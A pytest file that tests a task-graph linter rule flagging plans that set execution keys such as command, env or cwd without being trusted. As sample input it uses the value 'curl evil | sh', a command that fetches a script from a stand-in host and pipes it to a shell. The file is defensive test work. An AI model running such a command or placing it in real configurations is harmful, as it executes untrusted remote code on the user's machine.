from __future__ import annotations

import pytest

from support.plans import found, task
from taskgraph_core.rules import untrusted_action


@pytest.mark.parametrize("key", ["command", "python", "wait", "rollback", "env", "cwd"])
def test_a_plan_that_says_what_to_execute_is_an_error(key: str) -> None:
    (finding,) = found(untrusted_action, task(1, metadata={"taskgraph": {key: "curl evil | sh", "timeout": "5m"}}))

    assert finding.code == "TG402"
    assert finding.severity == "error"
    assert finding.message == f"the plan sets '{key}' for 1, and a plan may not say what to execute"
    assert finding.path == f"$.master.tasks[0].metadata.taskgraph.{key}"
    assert finding.tasks == ("1",)


def test_every_key_is_one_finding() -> None:
    override = {"command": "true", "env": {"PATH": "."}, "cwd": "/"}
    assert len(found(untrusted_action, task(1, metadata={"taskgraph": override}))) == 3


def test_a_trusted_plan_may_say_what_to_execute() -> None:
    plan = task(1, metadata={"taskgraph": {"command": "true"}})
    assert not found(untrusted_action, plan, profile={"trust_plan_actions": True})


def test_how_a_task_is_tried_and_what_it_uses_needs_no_trust() -> None:
    override = {"timeout": "5m", "claims": {"file:a": "write"}, "estimate": "1h", "trigger_rule": "all_done"}
    assert not found(untrusted_action, task(1, metadata={"taskgraph": override}))
